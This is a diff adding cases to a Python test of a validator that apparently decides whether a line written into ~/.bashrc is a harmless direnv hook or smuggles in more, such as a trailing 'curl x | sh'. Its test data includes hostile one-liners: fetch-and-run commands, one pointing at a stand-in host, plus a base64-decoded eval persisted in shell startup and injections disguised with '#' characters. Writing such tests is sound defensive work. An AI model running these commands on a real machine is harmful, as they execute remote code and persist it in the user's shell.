@@ -309,6 +309,12 @@ DIRENV = frozenset({"direnv"})
     ("echo 'eval \"$(curl -s https://x.example/h)\"' >> ~/.bashrc", False),
     ("echo 'eval \"$(direnv hook bash)\"; curl x | sh' >> ~/.bashrc", False),
     ("echo 'eval \"$(direnv hook bash | base64 -d)\"' >> ~/.bashrc", False),
+    # a trailing comment naming the shell is not run ...
+    ("echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc   # bash", True),
+    # ... but a '#' inside quotes or glued to a word starts none, so what follows still runs
+    ("echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc; echo '#'; curl x | sh", False),
+    ("echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc a#b; curl x | sh", False),
+    ("echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc \"# \"; curl x | sh", False),
 ])
 def test_the_subject_tools_shell_hook(line, expected):
     assert shell_hook_of(line, DIRENV) is expected
